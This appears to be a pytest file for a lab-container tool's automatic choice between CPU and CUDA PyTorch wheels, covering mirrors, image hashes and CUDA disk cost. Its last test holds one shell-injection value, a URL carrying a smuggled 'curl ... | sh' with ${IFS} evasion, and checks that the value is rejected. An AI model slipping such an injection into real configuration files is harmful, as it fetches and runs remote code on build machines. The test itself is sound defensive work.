"""`torch.variant: auto` (the CUDA wheel where the engine has a GPU, the CPU wheel where it
has none), the mirror of PyTorch's index, and what the CUDA libraries cost on disk. Pure:
the engine's answer is passed in; tests/test_doctor_gpu.py asks the real engine."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from conftest import raises_id, write_lab

from labctl.config.lab import load_lab
from labctl.gpu import compat, torch_wheels
from labctl.image.build import torch_label
from labctl.image.listing import image_torch, torch_column
from labctl.image.render import render

AUTO = """\
base: debian:bookworm
torch: {version: "2.10.0", variant: auto, packages: ["torchvision==0.25.0"]}
"""
AUTO_GPU = AUTO + 'gpu: {cuda: "12.6"}\n'
AUTO_REQUIRED = AUTO + 'gpu: {cuda: "12.8", required: true}\n'


def lab_with(tmp_path: Path, settings: str = "", gpu: bool | None = None):
    root = write_lab(tmp_path / "lab", {"auto": AUTO, "auto-gpu": AUTO_GPU,
                                        "auto-required": AUTO_REQUIRED}, settings)
    lab = load_lab(str(root), environ={}, host_root=root / "no-host")
    asked: list[bool] = []
    if gpu is not None:
        def probe() -> bool:
            asked.append(gpu)
            return gpu
        lab.engine_gpu = probe
    return lab, asked


@pytest.mark.parametrize(("name", "gpu", "variant", "wheel"), [
    ("auto", False, "cpu", "2.10.0+cpu"),
    ("auto", True, "default", "2.10.0+cu128"),      # PyPI's wheel of 2.10 is cu128
    ("auto-gpu", True, "cu126", "2.10.0+cu126"),    # gpu.cuda names the variant
    ("auto-gpu", False, "cpu", "2.10.0+cpu"),
    ("auto-required", False, "cu128", "2.10.0+cu128"),  # a lab that needs a GPU keeps CUDA
])
def test_auto_settles_for_the_engine(tmp_path: Path, name: str, gpu: bool, variant: str,
                                     wheel: str) -> None:
    lab, asked = lab_with(tmp_path, gpu=gpu)
    spec = lab.spec(name)
    assert spec.torch and spec.torch.variant == variant and spec.torch.by_auto
    assert asked == [gpu]
    assert torch_label(spec.torch) == wheel
    assert torch_column(spec) == f"2.10.0 ({variant}, auto)"
    cpu_index = "https://download.pytorch.org/whl/cpu"
    dockerfile = render(lab, spec).dockerfile
    assert (cpu_index in dockerfile) == (variant == "cpu")


def test_the_cpu_and_cuda_builds_are_different_images(tmp_path: Path) -> None:
    """The settled variant is part of the image's hash and of the lock's torch inputs: a
    CPU image is never "current" for an engine with a GPU."""
    cpu_lab, _ = lab_with(tmp_path / "a", gpu=False)
    gpu_lab, _ = lab_with(tmp_path / "b", gpu=True)
    assert render(cpu_lab, cpu_lab.spec("auto")).digest != \
        render(gpu_lab, gpu_lab.spec("auto")).digest


def test_a_spec_that_names_its_variant_never_asks_the_engine(tmp_path: Path) -> None:
    root = write_lab(tmp_path / "lab", {"cu": AUTO.replace("auto", "cu128")})
    lab = load_lab(str(root), environ={}, host_root=root)
    # No probe at all: the spec does not need one.
    spec = lab.spec("cu")
    assert spec.torch and spec.torch.variant == "cu128" and not spec.torch.by_auto
    assert torch_column(spec) == "2.10.0 (cu128)"


def test_auto_without_an_engine_says_so(tmp_path: Path) -> None:
    lab, _ = lab_with(tmp_path, gpu=None)
    with raises_id("spec.torch-auto-no-engine") as e:
        lab.spec("auto")
    assert e.value.file and e.value.file.endswith("auto.yaml")


def test_a_mirror_of_pytorchs_index_serves_the_cpu_wheel(tmp_path: Path) -> None:
    lab, _ = lab_with(tmp_path, "network: {torch_index: 'https://mirror.example.edu/pt/whl/'}\n",
                      gpu=False)
    dockerfile = render(lab, lab.spec("auto")).dockerfile
    assert "--index-url https://mirror.example.edu/pt/whl/cpu " in dockerfile
    assert "download.pytorch.org" not in dockerfile
    # PyPI's own wheel (default) still comes from the lab's index, not the mirror.
    assert torch_wheels.index_url("2.10.0", "default", "https://m.example/whl") is None


def test_a_bad_variant_names_auto_among_the_choices(tmp_path: Path) -> None:
    root = write_lab(tmp_path / "lab", {"bad": AUTO.replace("auto", "automatic")})
    lab = load_lab(str(root), environ={}, host_root=root)
    with raises_id("spec.invalid") as e:
        lab.spec("bad")
    assert "auto" in str(e.value) and "torch.variant" in str(e.value)


def test_cuda_cost_of_a_cuda_wheel_and_none_for_the_cpu_wheel() -> None:
    cost = torch_wheels.cuda_cost("2.10.0", "cu128")
    assert cost is not None and cost.cuda_bytes > 5 * cost.torch_bytes > 0
    assert torch_wheels.cuda_cost("2.10.0", "cpu") is None
    # An unmeasured minor gets the nearest measured row, not nothing.
    assert torch_wheels.cuda_cost("2.11.0", "default") is not None


def test_image_torch_from_the_label_or_a_current_image_only(tmp_path: Path) -> None:
    lab, _ = lab_with(tmp_path, gpu=False)
    spec = lab.spec("auto")
    assert image_torch({"org.labctl.torch": "2.10.0+cu128"}, spec, "outdated") == "2.10.0+cu128"
    assert image_torch({}, spec, "current") == "2.10.0+cpu"
    assert image_torch({}, spec, "outdated") is None  # unknown, not guessed


def test_auto_on_a_gpu_less_engine_is_a_cpu_lab(tmp_path: Path) -> None:
    lab, _ = lab_with(tmp_path, gpu=False)
    assert compat.gpu_use(lab.spec("auto")) == "no"
    lab, _ = lab_with(tmp_path / "g", gpu=True)
    assert compat.gpu_use(lab.spec("auto")) == "optional"


def test_a_cloned_lab_folders_torch_index_is_checked_and_its_login_kept_out(
        tmp_path: Path) -> None:
    """labctl.yaml travels with a cloned lab folder: a torch_index that would reach the
    Dockerfile as shell is refused, naming the file and the key; one with a login keeps the
    password in the build's secret, out of the Dockerfile and the build args."""
    bad = write_lab(tmp_path / "bad", {"auto": AUTO},
                    "network: {torch_index: 'https://m.example/whl;curl${IFS}x|sh'}\n")
    with raises_id("spec.invalid") as e:  # the id of every invalid key
        load_lab(str(bad), environ={}, host_root=bad)
    assert "labctl.yaml" in str(e.value) and "torch_index" in str(e.value)
    lab, _ = lab_with(tmp_path, "network: {torch_index: 'https://u:torchpw@m.example/whl'}\n",
                      gpu=False)
    ctx = render(lab, lab.spec("auto"))
    assert "torchpw" not in ctx.dockerfile + json.dumps(ctx.buildargs)
    assert "--index-url https://m.example/whl/cpu " in ctx.dockerfile
    assert "machine m.example login u password torchpw" in ctx.secrets["netrc"].decode()
